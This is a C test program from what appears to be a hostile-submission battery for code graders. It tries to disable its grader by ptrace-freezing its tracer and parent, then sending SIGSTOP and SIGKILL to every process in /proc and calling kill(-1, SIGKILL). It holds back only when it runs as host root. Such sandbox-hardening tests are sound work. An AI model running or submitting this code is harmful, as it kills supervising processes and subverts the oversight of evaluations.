/*
 * Attack 27 (kill the grader): stop or kill every process we can see. First ptrace-attach to
 * our tracer (TracerPid) and our parent and freeze them; then SIGSTOP, and then SIGKILL, every
 * process in /proc but ourselves, our parent and tracer first; then kill(-1, SIGKILL). A grader
 * whose supervisor, tracer or driver the program can signal hangs or dies. As the machine's
 * root this would kill the machine's processes, so then it only prints the battery's root
 * tell-tale (which the battery looks for). The grader must run the program where it can signal
 * nothing but its own processes: the grading finishes, every test is reported, 0 points.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <unistd.h>

/* Root of the machine itself, not of a user namespace of its own (where root is harmless)? */
static int host_root(void)
{
	if (geteuid() != 0)
		return 0;
	FILE *f = fopen("/proc/self/uid_map", "r");
	unsigned inside, outside, count;
	int mapped = f && fscanf(f, "%u %u %u", &inside, &outside, &count) == 3 && outside != 0;
	if (f)
		fclose(f);
	return !mapped;
}

static int tracer_pid(void)
{
	FILE *f = fopen("/proc/self/status", "r");
	char line[256];
	int pid = 0;
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, "TracerPid:", 10))
			pid = atoi(line + 10);
	if (f)
		fclose(f);
	return pid;
}

static void each_process(int sig)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) != NULL) {
		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		pid_t pid = (pid_t)atoi(e->d_name);
		if (pid != getpid() && kill(pid, sig) == 0)
			printf("signal %d sent to pid %d\n", sig, (int)pid);
	}
	if (d)
		closedir(d);
}

int main(void)
{
	if (host_root()) {
		printf("HOSTILE-RAN-AS-%s: not killing everything as root\n", "ROOT");
		return 1;
	}
	pid_t targets[] = {tracer_pid(), getppid()};
	for (int i = 0; i < 2; i++)
		if (targets[i] > 0 && ptrace(PTRACE_SEIZE, targets[i], 0, 0) == 0) {
			ptrace(PTRACE_INTERRUPT, targets[i], 0, 0);
			printf("froze pid %d\n", (int)targets[i]);
		}
	for (int i = 0; i < 2; i++)
		if (targets[i] > 0) {
			kill(targets[i], SIGSTOP);
			kill(targets[i], SIGKILL);
		}
	each_process(SIGSTOP);
	each_process(SIGKILL);
	fflush(stdout);
	kill(-1, SIGKILL);
	return 1;
}
